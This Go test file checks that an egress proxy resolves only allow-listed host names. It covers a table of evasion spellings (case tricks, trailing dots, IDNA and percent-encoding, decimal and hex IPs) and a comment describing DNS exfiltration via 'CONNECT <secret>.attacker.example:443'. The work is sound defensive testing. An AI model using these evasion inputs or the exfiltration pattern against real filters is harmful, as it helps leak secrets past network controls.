package egress

import (
	"bufio"
	"context"
	"errors"
	"net"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"
)

// rawRequest sends one request line (and a Host header) to the proxy as
// written, and returns the status code of the answer.
func rawRequest(t *testing.T, proxy, line, host string) int {
	t.Helper()
	c, err := net.DialTimeout("tcp", proxy, 5*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(10 * time.Second))
	if _, err := c.Write([]byte(line + "\r\nHost: " + host + "\r\nConnection: close\r\n\r\n")); err != nil {
		t.Fatal(err)
	}
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		t.Fatalf("%q: %v", line, err)
	}
	resp.Body.Close()
	return resp.StatusCode
}

// TestProxyResolvesOnlyAllowedNames: a name is asked of the resolver only
// once the allow list allowed it, and then exactly as the list allowed it
// (lower case, absolute, so no search domain is appended): a lookup is a
// way out in itself (CONNECT <secret>.attacker.example:443 would carry the
// secret to the attacker's name server). Every trick of spelling a name
// the list does not allow is refused without a lookup.
func TestProxyResolvesOnlyAllowedNames(t *testing.T) {
	res := newResolver("allowed.test", "93.184.216.34", "x.wild.test", "93.184.216.34", "short", "93.184.216.34")
	p, err := New(Options{
		Policy:      &Policy{Allow: MustParseEntries(FromUser, "allowed.test", "*.wild.test", "short", "port.test:8443")},
		Resolver:    res,
		DialTimeout: 2 * time.Second,
	})
	if err != nil {
		t.Fatal(err)
	}
	refused := errors.New("no connection in a unit test")
	p.dialer.connect = func(context.Context, string, string) (net.Conn, error) { return nil, refused }
	addr := serve(t, p)

	long := strings.Repeat("a", 64)
	longName := strings.Repeat(strings.Repeat("b", 60)+".", 5) + "wild.test" // 314 characters
	denied := []struct{ name, line, host string }{
		{"unlisted", "CONNECT s1.attacker.test:443 HTTP/1.1", "s1.attacker.test:443"},
		{"upper case", "CONNECT S2.Attacker.TEST:443 HTTP/1.1", "S2.Attacker.TEST:443"},
		{"trailing dot", "CONNECT s3.attacker.test.:443 HTTP/1.1", "s3.attacker.test.:443"},
		{"two trailing dots", "CONNECT allowed.test..:443 HTTP/1.1", "allowed.test..:443"},
		{"allowed name as a prefix", "CONNECT allowed.test.attacker.test:443 HTTP/1.1", "allowed.test.attacker.test:443"},
		{"allowed name inside a label", "CONNECT s4allowed.test:443 HTTP/1.1", "s4allowed.test:443"},
		{"wildcard's own apex", "CONNECT wild.test:443 HTTP/1.1", "wild.test:443"},
		{"allowed name, other port", "CONNECT allowed.test:444 HTTP/1.1", "allowed.test:444"},
		{"wildcard, other port", "CONNECT x.wild.test:8443 HTTP/1.1", "x.wild.test:8443"},
		{"port entry, default port", "CONNECT port.test:443 HTTP/1.1", "port.test:443"},
		{"other single label", "CONNECT s5:443 HTTP/1.1", "s5:443"},
		{"idna a-label", "CONNECT xn--s6-1ia.attacker.test:443 HTTP/1.1", "xn--s6-1ia.attacker.test:443"},
		{"raw utf-8", "CONNECT s7\xc3\xa9.attacker.test:443 HTTP/1.1", "s7\xc3\xa9.attacker.test:443"},
		{"percent-encoded utf-8", "GET http://s8%C3%A9.x.wild.test/ HTTP/1.1", "s8.x.wild.test"},
		{"percent-encoded dot", "GET http://s9%2Eattacker.test/ HTTP/1.1", "s9.attacker.test"},
		{"label over 63 under a wildcard", "CONNECT " + long + ".wild.test:443 HTTP/1.1", long + ".wild.test:443"},
		{"name over 253 under a wildcard", "CONNECT " + longName + ":443 HTTP/1.1", longName + ":443"},
		{"empty label", "CONNECT s10..wild.test:443 HTTP/1.1", "s10..wild.test:443"},
		{"address in decimal", "CONNECT 2130706433:443 HTTP/1.1", "2130706433:443"},
		{"address in hex", "CONNECT 0x7f.1:443 HTTP/1.1", "0x7f.1:443"},
		{"plain http, unlisted", "GET http://s11.attacker.test/ HTTP/1.1", "allowed.test"},
		{"plain http, Host header only", "GET / HTTP/1.1", "s12.attacker.test"},
		{"https URL", "GET https://s13.attacker.test/ HTTP/1.1", "s13.attacker.test"},
		{"ip literal", "CONNECT 93.184.216.34:443 HTTP/1.1", "93.184.216.34:443"},
	}
	for _, tc := range denied {
		code := rawRequest(t, addr, tc.line, tc.host)
		if code != http.StatusForbidden && code != http.StatusBadRequest {
			t.Errorf("%s: status %d, want a refusal", tc.name, code)
		}
	}
	// The allowed names, in the spellings that name them, are asked
	// exactly as the list names them; the connection itself fails here.
	allowed := []struct{ line, host string }{
		{"CONNECT allowed.test:443 HTTP/1.1", "allowed.test:443"},
		{"CONNECT ALLOWED.Test.:443 HTTP/1.1", "ALLOWED.Test.:443"},
		{"CONNECT x.wild.test:443 HTTP/1.1", "x.wild.test:443"},
		{"GET http://short/ HTTP/1.1", "short"},
	}
	for _, tc := range allowed {
		if code := rawRequest(t, addr, tc.line, tc.host); code != http.StatusBadGateway {
			t.Errorf("%s: status %d, want 502 (allowed, connection refused by the test)", tc.line, code)
		}
	}
	res.mu.Lock()
	defer res.mu.Unlock()
	var asked []string
	for name := range res.lookups {
		asked = append(asked, name)
	}
	slices.Sort(asked)
	if want := []string{"allowed.test.", "short", "x.wild.test."}; !slices.Equal(asked, want) {
		t.Errorf("names asked of the resolver = %q, want only %q", asked, want)
	}
	if n := res.lookups["allowed.test."]; n != 2 {
		t.Errorf("allowed.test. asked %d times, want 2 (each allowed spelling once)", n)
	}
}
